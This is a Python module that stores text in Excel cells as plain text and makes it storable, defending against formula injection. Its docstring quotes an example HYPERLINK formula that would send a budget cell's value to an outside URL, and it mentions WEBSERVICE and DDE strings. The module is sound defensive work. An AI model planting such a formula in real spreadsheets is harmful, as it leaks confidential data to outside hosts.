"""Text that preval writes into a cell is text, whatever it says.

A 扣分事由 of ``=HYPERLINK("http://…?b="&财务数据!B13,"详见附件")`` copied into 评分说明 must
not become a live link that sends a budget figure away, nor ``=WEBSERVICE(…)``, a DDE string
or a file named ``=1+4.xlsx`` a formula of the batch 汇总. A writer therefore marks
such text as text (openpyxl: the cell's data type; Excel through COM: a leading apostrophe,
``Book.put``), and every text is made storable first: characters XML 1.0 cannot hold (a
pasted vertical tab arrives as ``_x000B_``) become spaces, and text longer than a cell's
32,767 characters is cut with a mark that says so.
"""

from __future__ import annotations

import re

MAX_CELL_TEXT = 32_767  # Excel's limit per cell
CUT_MARK = "……（超出 Excel 单元格 32767 字的上限，以下省略）"
_ILLEGAL = re.compile(r"[\x00-\x08\x0b\x0c\x0e-\x1f\ufffe\uffff]")  # not XML 1.0 characters
FORMULA_LEADS = ("=", "+", "-", "@")  # what Excel parses as a formula when typed or set through COM


def xml_safe(text: str) -> str:
    """``text`` without the characters XML 1.0 cannot hold (a pasted vertical tab): spaces."""
    return _ILLEGAL.sub(" ", text)


def storable(text: str) -> str:
    """``text`` as a cell can keep it: illegal characters as spaces, cut to the limit with a mark."""
    text = xml_safe(text)
    if len(text) > MAX_CELL_TEXT:
        text = text[: MAX_CELL_TEXT - len(CUT_MARK)] + CUT_MARK
    return text


def write_text_or_value(cell, value: object) -> None:
    """Set an openpyxl cell to ``value``; a str stays text even when it starts with "="."""
    if isinstance(value, str):
        value = storable(value)
        cell.value = value
        if value.startswith("="):
            cell.data_type = "s"  # openpyxl would take it for a formula
    else:
        cell.value = value
